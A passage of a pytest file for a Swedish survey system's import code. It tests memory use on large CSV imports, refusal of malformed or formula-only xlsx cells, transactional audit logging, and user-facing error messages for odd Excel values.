        (CHEF.email, "insats.skapa", "Steget"),  # once: "steget" is the same insats
    ]


def test_import_memory_does_not_grow_with_the_file(app, tmp_path):
    import tracemalloc

    from surveys import db
    from surveys.files.answers import import_answers
    from surveys.services.catalogue import instrument_from_db

    row = "2024,Deltagare avslut,Insats A,kvinna,6,5,4,,6,5,4,1,6,6,\n"
    header = "year,questionnaire,insats,gender," + ",".join(f"q{i}" for i in range(1, 12)) + "\n"
    peaks = []
    for size in (1_000, 8_000):
        path = tmp_path / f"svar-{size}.csv"
        path.write_text(header + row * size, encoding="utf-8")
        with app.app_context():
            session = db.session()
            instrument = instrument_from_db(session)
            tracemalloc.start()
            count = import_answers(
                session, CHEF, instrument, path=path, filename=path.name, chunk=500
            )
            peaks.append(tracemalloc.get_traced_memory()[1])
            tracemalloc.stop()
        assert count == size
    assert peaks[1] < peaks[0] * 1.5, peaks  # 8× the rows, not 8× the memory


def test_the_admin_home_leads_to_the_one_upload_which_answers_a_broken_workbook(app, admin_client):
    page = admin_client.get("/admin")
    broken = malformed_files()["broken-sheet-xml"]
    response = admin_client.post(
        "/admin/importer/historik",
        data={"csrf_token": form_token(page.text), "file": (io.BytesIO(broken), "h.xlsx")},
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    assert response.status_code == 200
    assert "Ingenting har importerats." in response.text
    assert 'href="/admin/importer"' in page.text  # the link to the list of imports
    assert count_rows(app, "history_figure") == 0


def test_a_history_upload_and_its_audit_entry_are_one_transaction(app, admin_client, monkeypatch):
    """The figures are stored only together with the audit entry that names the upload."""
    import surveys.services.imports as imports  # the import service writes the entry

    def audit_fails(*args, **kwargs):
        raise RuntimeError("audit log unavailable")

    monkeypatch.setattr(imports, "audit", audit_fails)
    page = admin_client.get("/admin/importer")
    audited = count_rows(app, "audit_entry")  # the sign-in
    history = HISTORY_HEADER + "\n2019,Deltagare avslut,1,Samtliga,120,4,6,90,70,95\n"
    failed = admin_client.post(
        "/admin/importer/historik",
        data={
            "csrf_token": form_token(page.text),
            "file": (io.BytesIO(history.encode()), "h2019.csv"),
        },
        content_type="multipart/form-data",
    )
    assert failed.status_code == 500  # the error page; everything rolled back
    assert count_rows(app, "history_figure") == 0
    assert count_rows(app, "import_batch") == 0
    assert count_rows(app, "audit_entry") == audited


def test_an_answers_cell_excel_changed_is_named_as_it_looks_and_nothing_is_imported(
    app, runner, tmp_path
):
    """An Excel error (#N/A), a truth value or a date in the insats column is no insats:
    refused, and no insats is made of it. Values are shown as the sheet shows them, not as
    Python writes them, and openpyxl's English warnings (a number formatted as a date
    that is none) never reach the command line."""
    from datetime import date, datetime

    day = datetime(2024, 4, 2)  # noqa: DTZ001 - Excel cells have no time zone
    good = [2024, "personal", "Insats A", None, day, 6, 5, 4, 3, 2, 1, 0]
    book = workbook(
        HEADER.strip().split(","),
        good,
        [*good[:2], "#N/A", *good[3:]],
        [*good[:2], True, *good[3:]],
        [*good[:2], day.replace(year=1900, month=1, day=1), *good[3:]],
        [*good[:5], day.replace(year=1899, month=12, day=25), *good[6:]],
        [2024, "deltagare_avslut", "Insats A", date(2024, 1, 1), *good[4:]],
        good,
    )
    sheet = book.active
    sheet["E8"].value, sheet["E8"].number_format = 1e30, "yyyy-mm-dd"  # no date: openpyxl warns
    path = tmp_path / "excel.xlsx"
    book.save(path)
    result = runner.invoke(args=["import", "answers", str(path)])
    assert result.exit_code == 1
    output = result.output
    assert "Rad 3, kolumn insats: '#N/A' är inget namn på en insats." in output
    assert "Rad 4, kolumn insats: 'SANT' är inget namn på en insats." in output
    assert "Rad 5, kolumn insats: '1900-01-01' är inget namn på en insats." in output
    assert "Fråga 1: '1899-12-25' är inget giltigt svar" in output
    assert "Okänt kön '2024-01-01'" in output
    assert "skadad" not in output  # row 8 read past openpyxl's warning (an error here)
    assert "datetime" not in output
    assert "Warning" not in output
    assert "Ingenting har importerats" in output
    assert count_rows(app, "response") == 0
    assert count_rows(app, "intervention") == 0


def test_a_history_cell_excel_changed_is_named_as_it_looks(app, runner, tmp_path):
    """A history or Riket sheet's truth value, date or very large number was quoted as
    Python writes it ('True', '2024-01-01 00:00:00', 1e308's 309 digits)."""
    from datetime import datetime

    from indicators.report import HISTORY_COLUMNS

    good = [2022, "personal", 1, "samtliga", 80, 10, 20, 70, 40, 55]
    path = tmp_path / "historik.xlsx"
    workbook(
        HISTORY_COLUMNS,
        [True, *good[1:]],
        [datetime(2024, 1, 1), *good[1:]],  # noqa: DTZ001 - a cell has no zone
        [*good[:4], 1e308, *good[5:]],
        [*good[:2], False, *good[3:]],
        [*good[:5], datetime(2024, 3, 5, 8, 30), *good[6:]],  # noqa: DTZ001
    ).save(path)
    result = runner.invoke(args=["import", "history", str(path)])
    assert result.exit_code == 1
    output = result.output
    assert "Rad 2, kolumn year: 'SANT' är inget giltigt år." in output
    assert "Rad 3, kolumn year: '2024-01-01' är inget giltigt år." in output
    assert "Rad 4, kolumn n: '1e+308' är inget antal." in output
    assert "har ingen fråga 'FALSKT'." in output
    assert "Rad 6, kolumn negative: '2024-03-05 08:30:00' är ingen procentsats" in output
    assert "True" not in output
    assert "00:00:00" not in output
    assert count_rows(app, "history_figure") == 0


def test_a_broken_cell_is_reported_on_its_own_row():
    """openpyxl fails while fetching the row after the last good one: that row is named."""
    from surveys.files.reading import FileError, open_table

    row_2 = "<row>" + "".join(f"<c><v>{v}</v></c>" for v in (2023, 1)) + "</row>"
    row_3 = '<row><c><v>2023</v></c><c r="B3"><v>abc</v></c></row>'
    data = xlsx_package(sheet(header_cells("year,n") + row_2 + row_3))
    table = open_table(data, filename="trasig.xlsx", required=["year", "n"])
    with pytest.raises(FileError) as refused:
        list(table.rows())
    assert refused.value.errors == [
        "Rad 3: filen är skadad och kunde inte läsas vidare. Ingenting har sparats."
    ]


def test_a_formula_without_its_saved_value_is_refused_naming_its_cell(app, runner, tmp_path):
    """A spreadsheet saves each formula's last value, and that value is read. A file a
    program wrote (here openpyxl) and nobody saved in a spreadsheet has the formula only:
    it was read as an empty cell, an answer silently gone. It is refused, its cell named."""
    answers = [6, 5, 4, 3, 2, 1, 0, None, None, 6, 5]
    path = tmp_path / "program.xlsx"
    workbook(
        HEADER.strip().split(","),
        [2024, "personal", "Insats A", None, None, *answers],
        [2024, "personal", "Insats A", None, None, "=3+3", *answers[1:]],
    ).save(path)
    result = runner.invoke(args=["import", "answers", str(path)])
    assert result.exit_code == 1
    assert "Rad 3, cell F3: Cellen har en formel men inget sparat värde" in result.output
    assert "Traceback" not in result.output
    assert count_rows(app, "response") == 0
    assert count_rows(app, "intervention") == 0


def _formula_rows(cells: str) -> bytes:
    return xlsx_package(sheet(header_cells("year,n") + cells))


@pytest.mark.parametrize(
    ("cells", "read"),
    [
        ('<row r="2"><c r="A2"><v>2023</v></c><c r="B2"><f>1+1</f><v>2</v></c></row>', 2),
        (  # a shared formula, as Excel writes a filled-down column
            '<row r="2"><c r="A2"><v>2023</v></c><c r="B2"><f t="shared" si="0"/><v>3</v></c>'
            "</row>",
            3,
        ),
        ('<row r="2"><c r="A2"><v>2023</v></c><c r="B2" t="str"><f>"x"</f><v>x</v></c></row>', "x"),
    ],
)
def test_a_formula_with_its_saved_value_is_read_as_that_value(cells, read):
    from surveys.files.reading import open_table

    table = open_table(_formula_rows(cells), filename="excel.xlsx", required=["year", "n"])
    assert [values["n"] for _, values in table.rows()] == [read]


@pytest.mark.parametrize(
    "cell",
    [
        '<c r="B7"><f>1+1</f></c>',
        '<c r="B7"><f>1+1</f><v></v></c>',
        '<c r="B7"><f>1+1</f><v/></c>',
        '<c r="B7" s="1"><f t="shared" si="0" ref="B7:B9"/>\n  <v> </v></c>',
    ],
)
def test_every_spelling_of_a_formula_without_a_value_is_refused(cell):
    from surveys.files.reading import FileError, open_table

    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>2023</v></c></row>' for n in range(2, 7))
    data = _formula_rows(rows + f'<row r="7"><c r="A7"><v>2023</v></c>{cell}</row>')
    with pytest.raises(FileError) as refused:
        open_table(data, filename="program.xlsx", required=["year", "n"])
    assert refused.value.errors[0].startswith("Rad 7, cell B7: Cellen har en formel")
    prefixed = cell.replace("<c ", "<x:c ").replace("</c>", "</x:c>")
    prefixed = prefixed.replace("<f", "<x:f").replace("</f>", "</x:f>")
    prefixed = prefixed.replace("<v", "<x:v").replace("</v>", "</x:v>")
    body = sheet(rows + f'<row r="7"><c r="A7"><v>2023</v></c>{cell}</row>')
    assert "<x:" not in body  # the namespace-prefixed spelling of the same sheet:
    body = body.replace(cell, prefixed).replace(
        'xmlns="http://schemas',
        'xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns="http://schemas',
    )
    with pytest.raises(FileError) as refused:
        open_table(xlsx_package(body), filename="program.xlsx", required=["year", "n"])
    assert refused.value.errors[0].startswith("Rad 7, cell B7: Cellen har en formel")


@pytest.mark.parametrize("padding", range(0, 60, 7))
def test_a_formula_cut_by_a_chunk_boundary_is_seen_whole(monkeypatch, padding):
    """The sheet is streamed in chunks: a formula across a boundary is looked at once,
    whole, whether it has a value (read) or not (refused)."""
    from surveys.files import package
    from surveys.files.reading import FileError, open_table

    monkeypatch.setattr(package, "CHUNK", 97)
    monkeypatch.setattr(package, "FORMULA_TAIL", 300)
    filler = "".join(
        f'<row r="{n}"><c r="A{n}"><v>2023</v></c><c r="B{n}"><f>{"1+" * padding}1</f>'
        f"<v>{padding + 1}</v></c></row>"
        for n in range(2, 40)
    )
    table = open_table(_formula_rows(filler), filename="excel.xlsx", required=["year", "n"])
    assert {values["n"] for _, values in table.rows()} == {padding + 1}
    valueless = (
        f'<row r="40"><c r="A40"><v>2023</v></c><c r="B40"><f>{"1+" * padding}1</f></c></row>'
    )
    with pytest.raises(FileError) as refused:
        open_table(_formula_rows(filler + valueless), filename="x.xlsx", required=["year", "n"])
    assert refused.value.errors[0].startswith("Rad 40, cell B40: ")
